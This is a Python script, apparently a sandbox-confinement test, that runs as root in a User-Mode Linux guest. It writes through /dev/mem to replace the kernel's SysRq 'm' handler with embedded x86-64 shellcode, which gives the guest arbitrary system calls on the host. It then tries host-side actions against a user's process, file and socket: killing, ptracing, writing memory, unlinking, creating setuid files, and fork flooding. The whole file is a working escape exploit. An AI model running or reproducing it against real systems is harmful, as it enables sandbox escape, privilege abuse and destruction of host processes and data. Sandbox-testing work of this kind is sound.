"""Run as root in a host of `uml`: takes over the kernel that it runs on, and has it make system calls of the machine's.

A kernel of User-Mode Linux is a process of the machine's, and all of its guest's memory is the kernel's own. So root in
the guest writes through /dev/mem what it likes: here a page of this program's becomes the function behind the magic
SysRq key `m`. That function makes one system call of the machine's kernel, with what it finds in the page, in the
kernel's process and with all that holds that. Nothing is needed but Python.

`python3 - WHAT` reads what else it is to know from its arguments, and prints JSON. This text is given to the guest as
it is: it imports nothing of the project's.
"""

import ctypes
import errno
import json
import mmap
import os
import struct
import sys
from functools import partial
from pathlib import Path

IMAGE = 0x60000000
"""Where a kernel's image, and so its guest's memory, begins."""
IMAGE_BYTES = 24 << 20
PAGE = 4096
BOX, OPERATION, TEXT, DATA = 0x400, 0x500, 0x540, 0x600
"""In the page: number, arguments and result of a call; what the table of keys refers to; its message; the rest."""
CALL = bytes.fromhex("488b03488b7b08488b7310488b53184c8b53204c8b43284c8b4b300f05")
"""mov rax,[rbx]; mov rdi,[rbx+8]; rsi; rdx; r10; r8; r9; syscall."""
BACK = bytes.fromhex("488943385bc3")
"""mov [rbx+56],rax; pop rbx; ret."""
SLEEP = bytes.fromhex("31ff31f631d24d31d24d31c0b80f0100000f05ebeb")
"""ppoll(0, 0, 0, 0), again and again."""
END = bytes.fromhex("31ffb8e70000000f05")
"""exit_group(0)."""
FORK = bytes.fromhex("b838000000bf1100000031f631d24d31d24d31c00f05")
"""clone(SIGCHLD, 0, 0, 0, 0)."""
SKIP_IF_CHILD, SKIP_IF_PARENT = bytes.fromhex("4885c074"), bytes.fromhex("4885c075")
"""test rax,rax; jz or jnz, over as many bytes as follow."""
LOST = FORK + SKIP_IF_CHILD + bytes([len(END)]) + END + SLEEP
CHILDREN = {0x000: b"", 0x100: SLEEP, 0x200: LOST}
"""What a call's child does, where a call may have one, by the place of the function in the page. All stay as they are:
a child runs when its parent has gone on. They touch no memory, since all of the guest's is shared with the kernel."""
NO_CHILD, ONE_THAT_SLEEPS, ONE_THAT_IS_LOST = CHILDREN
CLONE, SIGCHLD = 56, 17
FORKS = (56, 57, 58, 435)
"""clone, fork, vfork and clone3: what comes of them may not go on as a second kernel."""
ENDS = (15, 60, 231, 335, 336)
"""rt_sigreturn, exit, exit_group, uretprobe and uprobe end whoever makes them so, and reach nobody else. The last two
are shown to no filter (seccomp(2))."""
NUMBERS = range(480)


class Kernel:
    """The kernel under this program, in its hands."""

    def __init__(self):
        with Path("/proc/sys/kernel/sysrq").open("w") as switch:
            switch.write("1")
        self._page = mmap.mmap(-1, PAGE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
        self._memory = os.open("/dev/mem", os.O_RDWR)
        self.address = IMAGE + self._frame() * PAGE
        self.write(OPERATION, struct.pack("<4Q", self.address, *[self.address + TEXT] * 2, 1))
        self.write(TEXT, b"taken\0")
        for place, child in CHILDREN.items():
            begin = b"\x53\x48\xbb" + struct.pack("<Q", self.address + BOX) + CALL  # push rbx; mov rbx,BOX
            self.write(place, begin + (SKIP_IF_PARENT + bytes([len(child)]) + child if child else b"") + BACK)
        self._entries = self._find_entries()
        self._refer(self.address + OPERATION)

    def release(self):
        """As it was."""
        self._refer(self._operation)

    def _refer(self, operation):
        for entry in self._entries:
            os.pwrite(self._memory, struct.pack("<Q", operation), entry - IMAGE)

    def _frame(self):
        """The number of the page's frame, of which it stays the owner."""
        address = ctypes.addressof(ctypes.c_char.from_buffer(self._page))
        self._page[0] = 0
        if ctypes.CDLL(None).mlock(ctypes.c_void_p(address), PAGE) != 0:
            raise OSError("the page is not held in memory")
        with Path("/proc/self/pagemap").open("rb") as frames:
            frames.seek(address // PAGE * 8)
            return struct.unpack("<Q", frames.read(8))[0] & ((1 << 55) - 1)

    def _find_entries(self):
        """Where the table of keys refers to the operation of `m`."""
        with Path("/proc/kallsyms").open() as symbols:
            handler = next(int(line.split()[0], 16) for line in symbols if line.split()[2] == "sysrq_handle_showmem")
        image = bytearray()
        for at in range(0, IMAGE_BYTES, PAGE):
            try:
                image += os.pread(self._memory, PAGE, at)
            except OSError:
                image += bytes(PAGE)
        for self._operation in _places(image, handler):
            if found := _places(image, self._operation):
                return found
        raise OSError("no table of SysRq keys is found")

    def write(self, at, content):
        """Into the page; returns the address by which the kernel's process knows it."""
        self._page[at : at + len(content)] = content
        return self.address + at

    def read(self, at, size):
        return bytes(self._page[at : at + size])

    def call(self, number, *arguments, function=NO_CHILD):
        """What a system call of the machine's returns; an error is below 0."""
        values = [number, *arguments, *[0] * (6 - len(arguments)), 0]
        self._page[OPERATION : OPERATION + 8] = struct.pack("<Q", self.address + function)
        self.write(BOX, struct.pack("<8Q", *(value & (2**64 - 1) for value in values)))
        with Path("/proc/sysrq-trigger").open("w") as trigger:
            trigger.write("m")
        return struct.unpack("<q", self.read(BOX + 56, 8))[0]

    def fork(self, child=ONE_THAT_SLEEPS):
        """What clone(2) returned; the child sleeps for ever, or its own child does, when it has ended."""
        return self.call(CLONE, SIGCHLD, function=child)


def _places(image, value):
    at, packed, found = -1, struct.pack("<Q", value), []
    while (at := image.find(packed, at + 1)) >= 0:
        found.append(IMAGE + at)
    return found


def every_call(kernel):
    """What each number gives with arguments that mean nothing: the name of an error, or `done`."""
    numbers = [each for each in NUMBERS if each not in ENDS]
    nothing = (-1,) * 6
    return {
        each: named(kernel.call(each, *nothing, function=ONE_THAT_SLEEPS if each in FORKS else NO_CHILD))
        for each in numbers
    }


def named(result):
    return errno.errorcode.get(-result, str(result)) if -4096 < result < 0 else "done"


def tries(kernel, victim, path, listening, own):
    """What comes of each try on a process, a file and a socket of the user's, and on this machine."""
    put = kernel.write
    a_path = put(DATA, path.encode() + b"\0")
    limit, buffer = put(0xA00, struct.pack("<2Q", 1, 1)), put(0xA40, bytes(128))
    mine = put(0x800, own.encode() + b"\0")
    vector = put(0xAD0, struct.pack("<2Q", buffer, 8))
    address = put(0xAE0, struct.pack("<H", 1) + listening.encode()[:106] + b"\0")
    queue = put(0x900, b"minigts-taken\0")
    clone3 = put(0x920, struct.pack("<11Q", 0x10000000, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0))
    call, child = kernel.call, partial(kernel.call, function=ONE_THAT_SLEEPS)
    made = {
        "kill": lambda: call(62, victim, 0),
        "SIGKILL": lambda: call(62, victim, 9),
        "every process that there is": lambda: call(62, -1, 0),
        "its group": lambda: call(62, -victim, 0),
        "tgkill": lambda: call(234, victim, victim, 9),
        "tkill": lambda: call(200, victim, 9),
        "rt_sigqueueinfo": lambda: call(129, victim, 9, buffer),
        "pidfd_open": lambda: call(434, victim, 0),
        "pidfd_send_signal": lambda: call(424, 0, 9, 0, 0),
        "prlimit64": lambda: call(302, victim, 0, limit, 0),
        "prlimit64 to read": lambda: call(302, victim, 0, 0, buffer),
        "prlimit64 of its own": lambda: call(302, 0, 10, limit, 0),
        "setrlimit": lambda: call(160, 10, limit),
        "sched_setaffinity": lambda: call(203, victim, 8, limit),
        "sched_setscheduler": lambda: call(144, victim, 5, buffer),
        "sched_setattr": lambda: call(314, victim, buffer, 0),
        "setpriority": lambda: call(141, 0, victim, 19),
        "ioprio_set": lambda: call(251, 1, victim, 3 << 13),
        "PTRACE_ATTACH": lambda: call(101, 16, victim, 0, 0),
        "PTRACE_SEIZE": lambda: call(101, 0x4206, victim, 0, 0),
        "process_vm_readv": lambda: call(310, victim, vector, 1, vector, 1, 0),
        "process_vm_writev": lambda: call(311, victim, vector, 1, vector, 1, 0),
        "process_madvise": lambda: call(440, 0, vector, 1, 21, 0),
        "kcmp": lambda: call(312, victim, victim, 0, 0, 0),
        "setsid": lambda: call(112),
        "setpgid": lambda: call(109, 0, 0),
        "PR_SET_PDEATHSIG to none": lambda: call(157, 1, 0),
        "PR_SET_DUMPABLE": lambda: call(157, 4, 0),
        "PR_SET_CHILD_SUBREAPER": lambda: call(157, 36, 1),
        "clone into a user namespace": lambda: child(56, 0x10000000 | SIGCHLD),
        "clone into others": lambda: child(56, 0x40000000 | 0x20000 | SIGCHLD),
        "clone as a brother": lambda: child(56, 0x8000 | SIGCHLD),
        "clone3": lambda: child(435, clone3, 88),
        "unshare": lambda: call(272, 0x10000000),
        "setns": lambda: call(308, 0, 0),
        "open to read": lambda: call(257, -100, a_path, 0, 0),
        "open to write": lambda: call(257, -100, a_path, 1, 0),
        "chmod": lambda: call(90, a_path, 0o777),
        "truncate": lambda: call(76, a_path, 0),
        "unlink": lambda: call(87, a_path),
        "rename": lambda: call(82, a_path, mine),
        "link": lambda: call(86, a_path, mine),
        "symlink": lambda: call(88, a_path, mine),
        "execve": lambda: call(59, a_path, 0, 0),
        "mknod": lambda: call(133, mine, 0o106755, 0),
        "make a file with a user's bit": lambda: call(257, -100, mine, 0o102, 0o4755),
        "inotify_init": lambda: call(253),
        "inotify_init1": lambda: call(294, 0),
        "fanotify_init": lambda: call(300, 0x200, 0),
        "F_NOTIFY": lambda: call(72, 0, 1026, 1),
        "F_SETLEASE": lambda: call(72, 0, 1024, 0),
        "socket": lambda: call(41, 1, 1, 0),
        "udp": lambda: call(41, 2, 2, 0),
        "netlink": lambda: call(41, 16, 3, 0),
        "a pair that may name its peer": lambda: call(53, 1, 2, 0, buffer),
        "a pair of another family": lambda: call(53, 30, 5, 0, buffer),
        "connect": lambda: call(42, 0, address, 110),
        "bind": lambda: call(49, 0, address, 110),
        **{name: lambda number=number: call(number, 0, 0, 0) for name, number in SYSTEM_V.items()},
        "a file larger than its disk": lambda: call(77, call(319, queue, 0), 1 << 40),
        "a gigabyte of its own": lambda: call(9, 0, 1 << 30, 3, 0x22, -1, 0),
        "mq_open": lambda: call(240, queue, 0o102, 0o600, 0),
        "mq_unlink": lambda: call(241, queue),
        **{name: lambda number=number: call(number, 0, 0, 0, 0, 0) for name, number in ELSE.items()},
    }
    return {name: named(attempt()) for name, attempt in made.items()}


SYSTEM_V = {"shmget": 29, "shmat": 30, "shmctl": 31, "semget": 64, "semop": 65, "semctl": 66, "msgget": 68} | {
    "msgsnd": 69,
    "msgrcv": 70,
    "msgctl": 71,
}
ELSE = {
    **{"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425, "add_key": 248, "keyctl": 250},
    **{"mount": 165, "umount2": 166, "pivot_root": 155, "chroot": 161, "open_tree": 428, "fsopen": 430, "acct": 163},
    **{"reboot": 169, "sethostname": 170, "init_module": 175, "kexec_load": 246, "swapon": 167, "syslog": 103},
    **{"quotactl": 179, "iopl": 172, "settimeofday": 164, "clock_settime": 227, "adjtimex": 159, "setuid": 105},
    **{"capset": 126, "setfsuid": 122, "lookup_dcookie": 212, "name_to_handle_at": 303},
    **{
        "open_by_handle_at": 304,
        "memfd_secret": 447,
        "landlock_create_ruleset": 444,
        "listmount": 458,
        "statmount": 457,
    },
}


def outlive(kernel, environment, bytes_long, forks):
    """Wipe the kernel's own environment, and leave processes that have lost their parent, and many that have not."""
    wiped = kernel.call(318, environment, bytes_long, 0) if bytes_long else 0
    lost = [named(kernel.fork(ONE_THAT_IS_LOST)) for _ in range(3)]
    made = [named(kernel.fork()) for _ in range(forks)]
    return {"wiped": wiped, "lost": lost, "made": made.count("done"), "refused": sorted({*made} - {"done"})}


def main():
    what, *rest = sys.argv[1:]
    kernel = Kernel()
    if what == "calls":
        found = every_call(kernel)
    elif what == "tries":
        found = tries(kernel, int(rest[0]), *rest[1:])
    else:
        found = outlive(kernel, *map(int, rest))
    kernel.release()
    sys.stdout.write(json.dumps(found))


if __name__ == "__main__":
    main()
